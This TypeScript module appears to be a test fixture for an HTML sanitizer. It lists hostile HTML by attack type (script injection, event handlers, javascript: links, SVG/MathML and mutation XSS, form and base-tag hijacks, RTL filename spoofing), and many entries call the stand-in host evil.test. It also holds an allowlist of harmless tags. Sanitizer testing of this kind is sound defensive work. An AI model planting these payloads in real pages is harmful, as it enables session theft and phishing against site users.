/** Calls `pwned()` if it runs, or sends a request to evil.test if it loads. */
const RUN = 'pwned()';

/** Hostile descriptions by the kind of attack. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script><script src="https://evil.test/x.js"></script>`,
  'a script in pieces': `<<script>script>${RUN}<</script>/script>`,
  'event handlers': `<p onclick="${RUN}" onmouseover=${RUN}>x</p><p/onclick=${RUN}>y</p><details ontoggle=${RUN} open>z</details>`,
  'an image that fails': `<img src=x onerror=${RUN}><img srcset="https://evil.test/x.png 1x, javascript:${RUN} 2x">`,
  'a link to a script': `<a href="javascript:${RUN}">x</a><a href=" JaVaScRiPt:${RUN}">x</a><a href="java&#10;script:${RUN}">x</a><a href="&#1;javascript:${RUN}">x</a>`,
  'a link to data': `<a href="data:text/html,<script>${RUN}</script>">x</a><a href="vbscript:${RUN}">x</a>`,
  'a link into the dashboard':
    '<a href="/api/import/run">x</a><a href="//evil.test/x">y</a><a href="runs">z</a>',
  'a link that takes over':
    '<a href="https://evil.test/x" target="_top" rel="opener" ping="https://evil.test" download>x</a>',
  svg: `<svg onload=${RUN}><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  math: `<math><mi xlink:href="javascript:${RUN}">x</mi><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  styles:
    '<style>@import "https://evil.test/x.css"; body { display: none }</style><p style="position:fixed;inset:0;background:url(https://evil.test/x.png)" class="mantine-Button-root" id="content">x</p>',
  'frames and plugins': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="https://evil.test"></iframe><object data="https://evil.test"></object><embed src="https://evil.test">`,
  'a form': `<form action="https://evil.test"><input name=q autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">Log in</button></form>`,
  'a head':
    '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test"><link rel="stylesheet" href="https://evil.test/x.css"><title>Gone</title>',
  'raw text': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  'a template': `<template><img src=x onerror=${RUN}></template><select><option><script>${RUN}</script></option></select>`,
  'markup that mutates in math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'markup that mutates in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'markup that mutates in svg': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'a comment': `<!--><img src=x onerror=${RUN}>--><!-- --!><img src=x onerror=${RUN}>-->`,
  'malformed nesting': `<b><i></b><p><table><tr><td><a href="javascript:${RUN}"><div></a></table><img src=x onerror=${RUN}//`,
  'an open tag': `<p>x<img src=x onerror=${RUN} `,
  'text that turns around': 'see \u202egpj.exe\u202c and &#x202e;moc.live',
};

/** The only tags that may remain. */
export const HARMLESS_TAGS = new Set(
  'p br hr div span blockquote pre h3 ul ol li dl dt dd table caption thead tbody tfoot tr th td a b strong i em u s small sub sup code'.split(
    ' ',
  ),
);
